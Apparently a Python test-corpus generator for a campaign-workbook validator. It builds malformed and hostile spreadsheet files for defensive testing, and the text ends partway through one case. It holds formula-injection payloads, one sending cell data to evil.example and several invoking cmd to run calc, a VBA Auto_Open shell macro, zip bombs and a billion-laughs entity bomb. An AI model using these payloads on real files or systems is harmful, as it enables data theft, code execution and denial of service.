"""A hostile-input corpus: workbooks people (and attackers) really send, each with what the tool
must answer.

    python tests/bad_inputs/make_corpus.py OUT_DIR            # write the corpus, list the cases
    python tests/bad_inputs/make_corpus.py OUT_DIR --measure  # + validate each file in a subprocess
                                                              #   under a 1 GiB address-space limit

Importable: `make_corpus(folder) -> list[Case]`. Every case names the file, the exit status
`campaign-sheets validate` must give (0 valid, 1 data errors, 2 unreadable), the stable codes that
must appear (issue codes of the report, or `WorkbookFileError.code`), codes that must not appear,
and a short description. Valid bases are built with the real builder
(`build_workbook("campaign", ..., example=True)`) and edited with openpyxl or by rewriting zip
parts; the bombs are crafted directly (a repeated, fully-flushed deflate block), so the whole corpus
is written in well under a minute and each bomb in under 5 s.
"""
from __future__ import annotations

import argparse
import datetime as dt
import os
import random
import re
import shutil
import struct
import sys
import time
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Callable

if __package__ in (None, ""):  # run as a script: make the repository importable
    sys.path.insert(0, str(Path(__file__).resolve().parents[2]))

import openpyxl  # noqa: E402
from openpyxl.styles import Font  # noqa: E402
from openpyxl.utils.datetime import CALENDAR_MAC_1904  # noqa: E402
from xlsxwriter.utility import xl_rowcol_to_cell  # noqa: E402

__all__ = ["Case", "CASES", "make_corpus", "case_names", "OLE_MAGIC", "rewrite_zip", "sheet_part",
           "write_raw_zip", "deflated_repeat", "run_cli"]

OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
ZH_BUDGET, ZH_TASKS, ZH_GUIDE = "预算规划", "进度计划", "使用说明"


@dataclass(frozen=True)
class Case:
    name: str
    path: Path
    status: int                       # exit status of `validate` (and `import`): 0 / 1 / 2
    codes: tuple[str, ...]            # every one of these must be reported
    description: str
    absent: tuple[str, ...] = ()      # none of these may be reported
    where: tuple[str, str, str] | None = None   # (code, sheet, cell) that must be reported exactly there
    rows: dict[str, int] = field(default_factory=dict)   # table key -> rows the import must return
    form: dict[str, Any] = field(default_factory=dict)   # form field -> value the import must return
    values: dict[str, Any] = field(default_factory=dict)  # "table.column.index" -> typed value imported
    heavy: bool = False               # bomb-type: also validated in a subprocess under RLIMIT_AS

    @property
    def unreadable(self) -> bool:
        """Exit status 2 because the file cannot be read at all (not because it is no campaign workbook)."""
        return self.status == 2 and "not-a-campaign" not in self.codes

    @property
    def rollup_status(self) -> set[str]:
        """The rollup states this file may end in."""
        return {0: {"clean", "warnings"}, 1: {"errors"},
                2: {"rejected"} if self.unreadable else {"not_campaign"}}[self.status]


# ------------------------------------------------------------------------------------------ helpers

@dataclass
class _Ctx:
    folder: Path
    zh: Path                 # the built zh-CN example
    en: Path                 # the built en example
    layout: Any              # plan_layout of the zh-CN example

    def cell(self, table: str, key: str, index: int) -> tuple[str, str]:
        tp = self.layout.tables[table]
        return tp.sheet, xl_rowcol_to_cell(tp.first_row + index, tp.col(key))

    def header(self, table: str, key: str) -> tuple[str, str]:
        tp = self.layout.tables[table]
        return tp.sheet, xl_rowcol_to_cell(tp.header_row, tp.col(key))


def rewrite_zip(src: Path, dst: Path, *, patch: dict[str, bytes | Callable[[bytes], bytes]] | None = None,
                add: dict[str, bytes] | None = None, drop: tuple[str, ...] = (),
                compression: int = zipfile.ZIP_DEFLATED) -> Path:
    """Copy a zip, replacing/transforming some entries, dropping some, adding others."""
    patch = patch or {}
    tmp = dst.with_name(dst.name + ".part")
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(tmp, "w", compression) as zout:
        for info in zin.infolist():
            if info.filename in drop:
                continue
            data = zin.read(info.filename)
            if info.filename in patch:
                p = patch[info.filename]
                data = p(data) if callable(p) else p
            zout.writestr(info.filename, data)
        for name, data in (add or {}).items():
            zout.writestr(name, data)
    os.replace(tmp, dst)
    return dst


def sheet_part(xlsx: Path, sheet: str) -> str:
    """The zip part name of worksheet `sheet` (through workbook.xml and its relationships)."""
    with zipfile.ZipFile(xlsx) as z:
        wb = z.read("xl/workbook.xml").decode("utf-8")
        rels = z.read("xl/_rels/workbook.xml.rels").decode("utf-8")
    m = re.search(r'<sheet [^>]*name="' + re.escape(sheet) + r'"[^>]*r:id="([^"]+)"', wb)
    assert m, sheet
    target = re.search(r'<Relationship [^>]*Id="' + re.escape(m.group(1)) + r'"[^>]*Target="([^"]+)"', rels)
    if target is None:  # attribute order differs between writers
        target = re.search(r'<Relationship [^>]*Target="([^"]+)"[^>]*Id="' + re.escape(m.group(1)) + '"', rels)
    t = target.group(1)
    return t.lstrip("/") if t.startswith("/xl/") else "xl/" + t


def _edit(src: Path, dst: Path, fn: Callable[[openpyxl.Workbook], None]) -> Path:
    """openpyxl load, edit, save (as a person would; openpyxl drops cached formula values)."""
    wb = openpyxl.load_workbook(src)
    fn(wb)
    dst.parent.mkdir(parents=True, exist_ok=True)
    wb.save(dst)
    return dst


def _set(wb: openpyxl.Workbook, where: tuple[str, str], value: Any) -> None:
    c = wb[where[0]][where[1]]
    c.value = value
    if isinstance(value, str) and value.startswith("="):
        c.data_type = "s"   # typed text, not a formula


def write_raw_zip(dst: Path, entries: list[tuple[str, int, bytes, int, int]]) -> Path:
    """A zip written by hand: entries are (name, method, stored bytes, crc32, uncompressed size).
    Lets a test declare sizes no real compressor would be asked to produce."""
    local, central, offset = [], [], 0
    for name, method, data, crc, usize in entries:
        fname = name.encode("utf-8")
        head = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0x800, method, 0, 0x21,
                           crc, len(data), usize, len(fname), 0) + fname
        local.append(head)
        local.append(data)
        central.append(struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0x800, method, 0, 0x21,
                                   crc, len(data), usize, len(fname), 0, 0, 0, 0, 0, offset) + fname)
        offset += len(head) + len(data)
    cd = b"".join(central)
    eocd = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(cd), offset, 0)
    with open(dst, "wb") as fh:
        for piece in local:
            fh.write(piece)
        fh.write(cd)
        fh.write(eocd)
    return dst


def deflated_repeat(prefix: bytes, block: bytes, times: int, suffix: bytes) -> tuple[bytes, int, int]:
    """(raw deflate stream, crc32, size) of prefix + block*times + suffix, built in O(len(block)):
    after a full flush a deflate block refers to nothing before it, so one compressed block can be
    repeated as is."""
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = co.compress(prefix) + co.flush(zlib.Z_FULL_FLUSH)
    body = co.compress(block) + co.flush(zlib.Z_FULL_FLUSH)
    tail = co.compress(suffix) + co.flush(zlib.Z_FINISH)
    crc = zlib.crc32(prefix)
    big = block * max(1, (64 << 20) // len(block))   # CRC over 64 MiB at a time
    left = times
    while left:
        n = min(left, len(big) // len(block))
        crc = zlib.crc32(big if n * len(block) == len(big) else block * n, crc)
        left -= n
    crc = zlib.crc32(suffix, crc)
    return head + body * times + tail, crc, len(prefix) + len(block) * times + len(suffix)


def _ole(streams: list[str]) -> bytes:
    """A small OLE2/CFB file whose directory names `streams` (enough for any sniffer)."""
    header = bytearray(512)
    header[:8] = OLE_MAGIC
    struct.pack_into("<HHHH", header, 0x18, 0x3E, 3, 0xFFFE, 9)       # minor, major, byte order, 512-byte sectors
    struct.pack_into("<H", header, 0x20, 6)                           # 64-byte mini sectors
    struct.pack_into("<IIIII", header, 0x2C, 1, 0, 0, 0x1000, 0xFFFFFFFE)  # 1 FAT sector, dir at sector 0
    struct.pack_into("<II", header, 0x3C, 0xFFFFFFFE, 0)
    header[0x44:0x48] = (1).to_bytes(4, "little")                     # first DIFAT entry: FAT at sector 1
    header[0x48:512] = b"\xff" * (512 - 0x48)
    directory = bytearray()
    for i, name in enumerate(["Root Entry", *streams]):
        entry = bytearray(128)
        raw = name.encode("utf-16-le") + b"\0\0"
        entry[:len(raw)] = raw
        struct.pack_into("<HBB", entry, 64, len(raw), 5 if i == 0 else 2, 1)
        struct.pack_into("<III", entry, 68, 0xFFFFFFFF, 0xFFFFFFFF, 1 if i == 0 and streams else 0xFFFFFFFF)
        directory += entry
    directory += b"\0" * (-len(directory) % 512)
    fat = bytearray(b"\xff" * 512)
    struct.pack_into("<II", fat, 0, 0xFFFFFFFE, 0xFFFFFFFD)
    return bytes(header) + bytes(directory) + bytes(fat) + os.urandom(1024)


# ------------------------------------------------------------------------------------------ the cases

@dataclass
class _Spec:
    name: str
    filename: str
    status: int
    codes: tuple[str, ...]
    description: str
    make: Callable[[_Ctx, Path], Any]
    absent: tuple[str, ...] = ()
    where: Callable[[_Ctx], tuple[str, str, str]] | None = None
    rows: dict[str, int] = field(default_factory=dict)
    form: dict[str, Any] = field(default_factory=dict)
    values: dict[str, Any] = field(default_factory=dict)
    heavy: bool = False


CASES: list[_Spec] = []


def case(name: str, filename: str, status: int, codes: tuple[str, ...] | str, description: str, **kw: Any):
    def deco(fn: Callable[[_Ctx, Path], Any]):
        CASES.append(_Spec(name, filename, status, (codes,) if isinstance(codes, str) else tuple(codes),
                           description, fn, **kw))
        return fn
    return deco


def case_names() -> list[str]:
    return [c.name for c in CASES]


EXAMPLE_CODES = ("budget-overrun", "risk-high", "kpi-alert")   # what the worked example always shows
START = dt.date(2026, 6, 1)

# -- readable workbooks: exit 0 ---------------------------------------------------------------------


@case("clean-zh", "clean-zh.xlsx", 0, EXAMPLE_CODES, "the zh-CN worked example as built",
      rows={"tasks": 14, "budget": 7}, form={"start": START})
def _clean_zh(ctx: _Ctx, path: Path) -> None:
    if path != ctx.zh:
        shutil.copyfile(ctx.zh, path)


@case("clean-en", "clean-en.xlsx", 0, EXAMPLE_CODES, "the English worked example as built",
      rows={"tasks": 14}, form={"start": START})
def _clean_en(ctx: _Ctx, path: Path) -> None:
    if path != ctx.en:
        shutil.copyfile(ctx.en, path)


@case("path-spaces-chinese", "活动 数据/第 1 期.xlsx", 0, EXAMPLE_CODES,
      "a valid file in a folder and file name with spaces and Chinese characters", rows={"tasks": 14})
def _path_zh(ctx: _Ctx, path: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(ctx.zh, path)


@case("xlsm-macro", "macro.xlsm", 0, ("macros-ignored", "budget-overrun"),
      ".xlsm with a VBA project part: read, macro never run, macros-ignored warning", rows={"tasks": 14})
def _xlsm(ctx: _Ctx, path: Path) -> None:
    def ct(data: bytes) -> bytes:
        data = data.replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml")
        return data.replace(b"<Default ", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                                          b"<Default ", 1)

    def rels(data: bytes) -> bytes:
        return data.replace(b"</Relationships>", b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/'
                            b'office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')
    vba = _ole(["VBA", "dir", "ThisWorkbook", "PROJECT"]) + b'Sub Auto_Open()\r\n Shell "calc.exe"\r\nEnd Sub\r\n'
    rewrite_zip(ctx.zh, path, patch={"[Content_Types].xml": ct, "xl/_rels/workbook.xml.rels": rels},
                add={"xl/vbaProject.bin": vba})


@case("dimension-wrong", "dimension-a1.xlsx", 0, ("budget-overrun",),
      "<dimension ref='A1:A1'/> on every sheet while the KPI sheet holds 100 daily rows (to row 115)",
      rows={"kpi_daily": 100})
def _dimension(ctx: _Ctx, path: Path) -> None:
    tp = ctx.layout.tables["kpi_daily"]

    def more_rows(wb: openpyxl.Workbook) -> None:
        ws = wb[tp.sheet]
        for i in range(20, 100):
            r = tp.first_row + i + 1
            ws.cell(r, tp.col("date") + 1).value = dt.datetime(2026, 6, 1 + i % 30)
            ws.cell(r, tp.col("participants") + 1).value = 4000 + i
            ws.cell(r, tp.col("registrations") + 1).value = 400 + i
            ws.cell(r, tp.col("conversion") + 1).value = 0.09
    tmp = _edit(ctx.zh, path.with_name(path.name + ".tmp.xlsx"), more_rows)
    with zipfile.ZipFile(tmp) as z:
        parts = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    patch = {p: (lambda d: re.sub(rb'<dimension ref="[^"]*"\s*/>', b'<dimension ref="A1:A1"/>', d)) for p in parts}
    rewrite_zip(tmp, path, patch=patch)
    tmp.unlink()
    with zipfile.ZipFile(path) as z:
        assert b'<dimension ref="A1:A1"/>' in z.read(sheet_part(path, tp.sheet))


@case("formatted-last-row", "formatted-1048576.xlsx", 0, ("budget-overrun",),
      "formatted (bold, empty) cells at A1048576 and XFD1048576: the grid must not be allocated",
      rows={"budget": 7})
def _formatted(ctx: _Ctx, path: Path) -> None:
    def fmt(wb: openpyxl.Workbook) -> None:
        ws = wb[ZH_BUDGET]
        ws.cell(1_048_576, 1).font = Font(bold=True)
        ws.cell(1_048_576, 16_384).font = Font(bold=True)
    _edit(ctx.zh, path, fmt)


@case("stray-space-xfd", "stray-space.xlsx", 2, "sheet-too-large",
      "a single ' ' typed at XFD1048576 (a 17-billion-cell grid for a dense reader): refused", heavy=True)
def _stray(ctx: _Ctx, path: Path) -> None:
    stray = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t xml:space="preserve"> </t></is></c></row></sheetData>'
    part = sheet_part(ctx.zh, ZH_BUDGET)
    rewrite_zip(ctx.zh, path, patch={part: lambda d: d.replace(b"</sheetData>", stray, 1)})


@case("columns-reordered", "columns-reordered.xlsx", 0, ("budget-overrun",),
      "budget columns Planned and Actual swapped (headers and values)", absent=("header-missing", "header-unknown"),
      rows={"budget": 7}, values={"budget.planned.0": 45000, "budget.actual.0": 30000})
def _reordered(ctx: _Ctx, path: Path) -> None:
    tp = ctx.layout.tables["budget"]

    def swap(wb: openpyxl.Workbook) -> None:
        ws = wb[tp.sheet]
        a, b = tp.col("planned") + 1, tp.col("actual") + 1
        for r in range(tp.header_row + 1, tp.last_row + 2):
            x, y = ws.cell(r, a), ws.cell(r, b)
            x.value, y.value = y.value, x.value
    _edit(ctx.zh, path, swap)


@case("column-renamed", "column-renamed.xlsx", 0, ("header-unknown", "header-missing"),
      "the optional budget column 费用明细 renamed 明细说明: kept as extra, reported missing (warning)")
def _renamed(ctx: _Ctx, path: Path) -> None:
    _edit(ctx.zh, path, lambda wb: _set(wb, ctx.header("budget", "item"), "明细说明"))


@case("column-extra", "column-extra.xlsx", 0, ("header-unknown",),
      "an extra column 内部编号 appended right of the budget table, with values", absent=("header-missing",))
def _extra(ctx: _Ctx, path: Path) -> None:
    tp = ctx.layout.tables["budget"]

    def extra(wb: openpyxl.Workbook) -> None:
        ws = wb[tp.sheet]
        col = tp.last_col + 2
        ws.cell(tp.header_row + 1, col).value = "内部编号"
        for i in range(3):
            ws.cell(tp.first_row + 1 + i, col).value = f"B-{i + 1:03d}"
    _edit(ctx.zh, path, extra)


@case("column-deleted", "column-deleted.xlsx", 1, ("header-missing",),
      "the required budget column 费用科目 deleted (Excel 'delete column'): one header-missing error")
def _deleted(ctx: _Ctx, path: Path) -> None:
    tp = ctx.layout.tables["budget"]
    _edit(ctx.zh, path, lambda wb: wb[tp.sheet].delete_cols(tp.col("category") + 1))


@case("merged-hidden-rows", "merged-hidden.xlsx", 0, ("budget-overrun",),
      "task rows 7-9 hidden, deliverable cells I6:I7 and budget notes merged", rows={"tasks": 14, "budget": 7})
def _merged(ctx: _Ctx, path: Path) -> None:
    tp = ctx.layout.tables["tasks"]
    bp = ctx.layout.tables["budget"]

    def merge(wb: openpyxl.Workbook) -> None:
        ws = wb[tp.sheet]
        for r in (tp.first_row + 2, tp.first_row + 3, tp.first_row + 4):
            ws.row_dimensions[r].hidden = True
        c = tp.col("deliverable")
        ws.merge_cells(start_row=tp.first_row + 1, start_column=c + 1, end_row=tp.first_row + 2, end_column=c + 1)
        wb[bp.sheet].merge_cells(start_row=bp.first_row + 1, start_column=bp.col("note") + 1,
                                 end_row=bp.first_row + 3, end_column=bp.col("note") + 1)
    _edit(ctx.zh, path, merge)


@case("formulas-not-calculated", "openpyxl-resaved.xlsx", 0, ("formulas-recomputed",),
      "re-saved by openpyxl: formulas kept, cached results dropped", rows={"tasks": 14})
def _resaved(ctx: _Ctx, path: Path) -> None:
    _edit(ctx.zh, path, lambda wb: None)


@case("date-1904", "date-1904.xlsx", 0, ("budget-overrun",),
      "saved with the 1904 date system (Mac Excel): same dates", absent=("type-error", "date-order"),
      form={"start": START}, rows={"tasks": 14}, values={"tasks.start.0": dt.date(2026, 5, 18)})
def _d1904(ctx: _Ctx, path: Path) -> None:
    def epoch(wb: openpyxl.Workbook) -> None:
        wb.epoch = CALENDAR_MAC_1904
    _edit(ctx.zh, path, epoch)
    with zipfile.ZipFile(path) as z:
        assert b'date1904="1"' in z.read("xl/workbook.xml")


@case("messy-values", "messy-values.xlsx", 0, ("percent-assumed",),
      "¥45,000, 4.65万, 2026年5月19日, 2026/5/18, full-width ４２０００ and ８.５％, 8%, a plain 8 as a "
      "percent, 是/否, an English label in a Chinese workbook",
      absent=("type-error", "not-in-choices"),
      where=lambda ctx: ("percent-assumed", *ctx.cell("kpi_daily", "conversion", 2)), rows={"budget": 7},
      values={"budget.planned.0": 45000, "budget.actual.1": 46500, "budget.committed.2": 42000,
              "budget.category.2": "channel", "tasks.end.0": dt.date(2026, 5, 19), "tasks.start.1": dt.date(2026, 5, 18),
              "kpi_daily.conversion.0": 0.085, "kpi_daily.conversion.1": 0.08, "kpi_daily.conversion.2": 0.08,
              "goals.m.1": False})
def _messy(ctx: _Ctx, path: Path) -> None:
    edits = {
        ctx.cell("budget", "planned", 0): "¥45,000",
        ctx.cell("budget", "actual", 1): "4.65万",
        ctx.cell("budget", "committed", 2): "４２０００",
        ctx.cell("tasks", "end", 0): "2026年5月19日",
        ctx.cell("tasks", "start", 1): "2026/5/18",
        ctx.cell("kpi_daily", "conversion", 0): "８.５％",
        ctx.cell("kpi_daily", "conversion", 1): "8%",
        ctx.cell("kpi_daily", "conversion", 2): 8,
        ctx.cell("goals", "s", 0): "是",
        ctx.cell("goals", "m", 1): "否",
        ctx.cell("budget", "category", 2): "Channel spend",
    }

    def apply(wb: openpyxl.Workbook) -> None:
        for where, value in edits.items():
            _set(wb, where, value)
    _edit(ctx.zh, path, apply)


@case("whitespace-zero-width", "whitespace.xlsx", 0, ("budget-overrun",),
      "NBSP, U+3000 and zero-width characters around headers and around keys and references",
      absent=("header-missing", "header-unknown", "unknown-reference", "table-missing", "duplicate-key"),
      rows={"tasks": 14}, values={"tasks.task_id.0": "T01", "tasks.predecessor.2": "T01", "daily_log.task.0": "T01"})
def _whitespace(ctx: _Ctx, path: Path) -> None:
    def apply(wb: openpyxl.Workbook) -> None:
        for key, decorate in (("task_id", "\u200b{}\u00a0"), ("task", " {}\u3000"), ("status", "\ufeff{} ")):
            sheet, ref = ctx.header("tasks", key)
            wb[sheet][ref].value = decorate.format(wb[sheet][ref].value)
        first_id = ctx.cell("tasks", "task_id", 0)
        wb[first_id[0]][first_id[1]].value = " T01\u200b"
        _set(wb, ctx.cell("tasks", "predecessor", 2), "\u00a0T01\u200b")
        _set(wb, ctx.cell("daily_log", "task", 0), "T01\u3000")
    _edit(ctx.zh, path, apply)


@case("control-characters", "control-chars.xlsx", 0, ("budget-overrun",),
      "control characters in text, as Excel escapes them (_x0007_) and raw (\\x01, \\x1b) in the XML",
      rows={"budget": 7}, values={"budget.note.0": "按周结算", "budget.item.0": "兼职客服与地推人员（30天）"})
def _control(ctx: _Ctx, path: Path) -> None:
    def strings(data: bytes) -> bytes:
        data = data.replace("<t>按周结算</t>".encode(), "<t>按周_x0007_结算_x001B_</t>".encode(), 1)
        return data.replace("<t>兼职客服与地推人员（30天）</t>".encode(), "<t>兼职\x01客服与地推人员\x1b（30天）</t>".encode(), 1)
    rewrite_zip(ctx.zh, path, patch={"xl/sharedStrings.xml": strings})


@case("injection-payloads", "injection.xlsx", 0, ("budget-overrun",),
      "text cells starting with = + - @ tab CR LF (campaign name, task names, budget items, risks)",
      rows={"budget": 7})
def _injection(ctx: _Ctx, path: Path) -> None:
    def apply(wb: openpyxl.Workbook) -> None:
        ws = wb[ZH_GUIDE]
        for row in ws.iter_rows(min_col=1, max_col=2):
            if row[0].value == "活动名称":
                _set(wb, (ZH_GUIDE, row[1].coordinate), INJECTION[0])
        for i, payload in enumerate(INJECTION):
            _set(wb, ctx.cell("budget", "item", i), payload)
            _set(wb, ctx.cell("budget", "note", i), payload)
            _set(wb, ctx.cell("tasks", "deliverable", i), payload)
            _set(wb, ctx.cell("risks", "description", i % 5), payload)
    _edit(ctx.zh, path, apply)


INJECTION = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1"]


@case("huge-shared-strings", "huge-shared-strings.xlsx", 0, ("budget-overrun",),
      "a sharedStrings table padded with 1,000,000 unused entries (about 30 MB of XML)", heavy=True,
      rows={"budget": 7})
def _huge_sst(ctx: _Ctx, path: Path) -> None:
    pad = "".join(f"<si><t>s{i:07d}</t></si>" for i in range(1_000_000)).encode()

    def strings(data: bytes) -> bytes:
        m = re.search(rb'uniqueCount="(\d+)"', data)
        n = int(m.group(1)) + 1_000_000
        data = re.sub(rb'count="\d+" uniqueCount="\d+"', f'count="{n}" uniqueCount="{n}"'.encode(), data, 1)
        return data.replace(b"</sst>", pad + b"</sst>")
    rewrite_zip(ctx.zh, path, patch={"xl/sharedStrings.xml": strings})


@case("meta-missing", "no-meta.xlsx", 0, ("meta-missing",),
      "the hidden _meta sheet deleted: recognised by sheet titles and headers", rows={"tasks": 14})
def _nometa(ctx: _Ctx, path: Path) -> None:
    _edit(ctx.zh, path, lambda wb: wb.remove(wb["_meta"]))


@case("version-0", "version-0.xlsx", 0, ("template-version",), "_meta says template version 0")
def _v0(ctx: _Ctx, path: Path) -> None:
    _edit(ctx.zh, path, lambda wb: _set(wb, ("_meta", "B2"), 0))


@case("version-99", "version-99.xlsx", 0, ("template-version",), "_meta says template version 99",
      rows={"tasks": 14})
def _v99(ctx: _Ctx, path: Path) -> None:
    _edit(ctx.zh, path, lambda wb: _set(wb, ("_meta", "B2"), 99))


# -- data errors: exit 1 ---------------------------------------------------------------------------

@case("sheet-deleted", "sheet-deleted.xlsx", 1, ("sheet-missing",), "the budget sheet 预算规划 deleted",
      rows={"tasks": 14})
def _sheet_deleted(ctx: _Ctx, path: Path) -> None:
    _edit(ctx.zh, path, lambda wb: wb.remove(wb[ZH_BUDGET]))


@case("error-values", "error-values.xlsx", 1, ("formula-error",),
      "#DIV/0! and #REF! error values cached in formula cells",
      where=lambda ctx: ("formula-error", *ctx.cell("budget", "variance", 0)))
def _errors(ctx: _Ctx, path: Path) -> None:
    def apply(wb: openpyxl.Workbook) -> None:
        _set(wb, ctx.cell("budget", "variance", 0), "#DIV/0!")
        _set(wb, ctx.cell("risks", "score", 0), "#REF!")
    _edit(ctx.zh, path, apply)


@case("typed-errors", "typed-errors.xlsx", 1, ("type-error", "not-in-choices", "out-of-range"),
      "'about 5k' as an amount, 已完城 as a status, 9 as a 1-5 likelihood",
      where=lambda ctx: ("not-in-choices", *ctx.cell("tasks", "status", 0)))
def _typed(ctx: _Ctx, path: Path) -> None:
    def apply(wb: openpyxl.Workbook) -> None:
        _set(wb, ctx.cell("budget", "planned", 2), "about 5k")
        _set(wb, ctx.cell("tasks", "status", 0), "已完城")
        _set(wb, ctx.cell("risks", "likelihood", 0), 9)
    _edit(ctx.zh, path, apply)


@case("template-unknown", "other-workbook.xlsx", 2, ("template-unknown", "not-a-campaign"),
      "a real .xlsx that is not a campaign workbook (a plain sales list)")
def _unknown(ctx: _Ctx, path: Path) -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "销售"
    ws.append(["日期", "门店", "金额"])
    for i in range(20):
        ws.append([dt.date(2026, 1, 1 + i), f"门店{i % 3}", 100 + i])
    wb.save(path)


# -- unreadable: exit 2 ----------------------------------------------------------------------------

@case("empty", "empty.xlsx", 2, "file-empty", "a 0-byte file (an interrupted download)")
def _empty(ctx: _Ctx, path: Path) -> None:
    path.write_bytes(b"")


@case("random-bytes", "random.xlsx", 2, "corrupt-zip", "64 KiB of random bytes")
def _random(ctx: _Ctx, path: Path) -> None:
    path.write_bytes(random.Random(1).randbytes(65536))


@case("truncated", "truncated.xlsx", 2, "corrupt-zip", "the first 60% of a valid workbook")
def _truncated(ctx: _Ctx, path: Path) -> None:
    data = ctx.zh.read_bytes()
    path.write_bytes(data[: len(data) * 6 // 10])


@case("csv-as-xlsx", "export-csv.xlsx", 2, "not-xlsx-csv", "a UTF-8 CSV export named .xlsx")
def _csv(ctx: _Ctx, path: Path) -> None:
    path.write_text("费用科目,预算金额,实际支出\n人力成本,45000,30000\n物料费用,40000,46500\n", encoding="utf-8-sig")


@case("html-as-xlsx", "export-html.xlsx", 2, "not-xlsx-html", "an HTML table 'exported to Excel' named .xlsx")
def _html(ctx: _Ctx, path: Path) -> None:
    path.write_text("<html><head><meta charset='utf-8'></head><body><table><tr><td>费用科目</td><td>预算金额</td></tr>"
                    "<tr><td>人力成本</td><td>45000</td></tr></table></body></html>", encoding="utf-8")


@case("legacy-xls", "legacy.xlsx", 2, "corrupt-workbook",
      "an OLE2 file with a Workbook stream named .xlsx, its header declaring more FAT/DIFAT sectors than it has")
def _xls(ctx: _Ctx, path: Path) -> None:
    path.write_bytes(_ole(["Workbook", "\x05SummaryInformation"]))


@case("encrypted", "encrypted.xlsx", 2, "encrypted",
      "a password-protected workbook (OLE2 with EncryptionInfo and EncryptedPackage)")
def _encrypted(ctx: _Ctx, path: Path) -> None:
    path.write_bytes(_ole(["\x06DataSpaces", "EncryptionInfo", "EncryptedPackage"]))


@case("xlsb-as-xlsx", "binary.xlsx", 2, "not-xlsx-xlsb", "an Excel binary workbook (.xlsb) named .xlsx")
def _xlsb(ctx: _Ctx, path: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                   'package/2006/content-types"><Override PartName="/xl/workbook.bin" ContentType="application/'
                   'vnd.ms-excel.sheet.binary.macroEnabled.main"/></Types>')
        z.writestr("xl/workbook.bin", b"\x83\x01\x00\x84\x01\x00")
        z.writestr("xl/worksheets/sheet1.bin", b"\x81\x01\x00\x82\x01\x00")


ODS_HEAD = ('<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content xmlns:office="urn:oasis:names:tc:'
            'opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
            'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body>'
            '<office:spreadsheet><table:table table:name="Sheet1">').encode()
ODS_TAIL = b"</table:table></office:spreadsheet></office:body></office:document-content>"
ODS_ROW = ('<table:table-row><table:table-cell office:value-type="string"><text:p>渠道</text:p></table:table-cell>'
           '<table:table-cell office:value-type="float" office:value="1200"><text:p>1200</text:p></table:table-cell>'
           '</table:table-row>').encode()


def ods_entries(content: bytes | tuple[bytes, int, int]) -> list[tuple[str, int, bytes, int, int]]:
    """The entries of a small .ods (for `write_raw_zip`): mimetype first and stored, a manifest and
    `content` (bytes, or an already deflated (data, crc, size))."""
    manifest = (b'<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
                b'opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/"'
                b' manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/></manifest:manifest>')
    mime = b"application/vnd.oasis.opendocument.spreadsheet"
    data, crc, size = content if isinstance(content, tuple) else (_raw_deflate(content), zlib.crc32(content), len(content))
    return [("mimetype", zipfile.ZIP_STORED, mime, zlib.crc32(mime), len(mime)),
            ("content.xml", zipfile.ZIP_DEFLATED, data, crc, size),
            ("META-INF/manifest.xml", zipfile.ZIP_DEFLATED, _raw_deflate(manifest), zlib.crc32(manifest), len(manifest))]


@case("ods-as-xlsx", "opendocument.xlsx", 2, ("template-unknown", "not-a-campaign"),
      "an OpenDocument spreadsheet (no campaign workbook) named .xlsx: read by content, then not recognised")
def _ods(ctx: _Ctx, path: Path) -> None:
    write_raw_zip(path, ods_entries(ODS_HEAD + ODS_ROW + ODS_TAIL))


@case("ods-zip-bomb", "bomb.ods", 2, "zip-bomb",
      "an .ods whose content.xml is padded to 300 MB of whitespace (ratio about 1000:1)", heavy=True)
def _ods_bomb(ctx: _Ctx, path: Path) -> None:
    write_raw_zip(path, ods_entries(deflated_repeat(ODS_HEAD, b" " * (1 << 20), 300, ODS_ROW + ODS_TAIL)))


@case("ods-billion-laughs", "laughs.ods", 2, "xml-entities",
      "an .ods whose content.xml declares nested entities (&lol9; = 10^9 'lol') and uses one", heavy=True)
def _ods_laughs(ctx: _Ctx, path: Path) -> None:
    body = re.sub(rb"^<\?xml[^>]*\?>\s*", b"", ODS_HEAD)
    write_raw_zip(path, ods_entries(LAUGHS + body + ODS_ROW.replace("渠道".encode(), b"&lol9;") + ODS_TAIL))


@case("ods-repeated-cells", "repeated.ods", 2, "sheet-too-large",
      "an .ods of 300 bytes whose one value cell repeats over 16,384 columns and 1,048,576 rows", heavy=True)
def _ods_repeated(ctx: _Ctx, path: Path) -> None:
    row = (b'<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated='
           b'"16384" office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell></table:table-row>')
    write_raw_zip(path, ods_entries(ODS_HEAD + row + ODS_TAIL))


@case("xls-truncated", "truncated.xls", 2, "corrupt-workbook", "an OLE2 .xls cut short after 1,500 bytes")
def _xls_cut(ctx: _Ctx, path: Path) -> None:
    from tests.support.ole import cfb
